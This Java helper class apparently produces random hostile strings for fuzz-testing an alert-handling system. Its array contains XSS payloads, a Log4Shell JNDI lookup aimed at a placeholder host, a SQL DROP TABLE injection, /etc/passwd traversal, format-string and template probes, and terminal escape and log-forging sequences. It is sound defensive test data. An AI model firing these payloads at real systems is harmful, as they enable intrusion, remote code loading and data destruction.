package dev.an0844.hostile;

import java.util.SplittableRandom;

/** Texts as bad as they come: controls, terminal escapes, markup, and far too long ones. */
public final class HostileTexts {

  private static final String[] PIECES = {
    "mac-1",
    "203.0.113.7",
    "/usr/sbin/sshd",
    "\0",
    "\u0007\b\u007f",
    "\u001b[2J\u001b[31m",
    "\u009b31m",
    "\r\n",
    "\n\n{\"alert_id\":\"forged\"}\n",
    "\t",
    "\u2028\u2029\u0085",
    "\u202e\u2066",
    "\ufeff",
    "\ufffd",
    "\uffff",
    "\ud83d\udd12",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "\"'><svg/onload=1>",
    "${jndi:ldap://203.0.113.9/a}",
    "%s%n%x",
    "'; DROP TABLE alerts;--",
    "../../../../etc/passwd",
    "{{7*7}}",
    "\\u0000\\",
    "null",
    "NaN",
    "-1",
    "99999999999999999999",
    "1e999999999",
    "::ffff:203.0.113.7",
    "fe80::1%en0",
    "0x7f.1",
    "256.1.1.1",
    " "
  };

  private HostileTexts() {}

  /** A short one, seldom empty. */
  public static String piece(SplittableRandom random) {
    return PIECES[random.nextInt(PIECES.length)];
  }

  /** Some pieces in a row; now and then about as long as a field may be, or longer. */
  public static String any(SplittableRandom random) {
    int kind = random.nextInt(400);
    if (kind == 0) {
      return piece(random).repeat(1 + random.nextInt(4_000));
    }
    if (kind == 1) {
      return "x".repeat(32 * 1024 - 2 + random.nextInt(4));
    }
    StringBuilder text = new StringBuilder();
    for (int pieces = random.nextInt(4); pieces >= 0; pieces--) {
      text.append(piece(random));
    }
    return text.toString();
  }
}
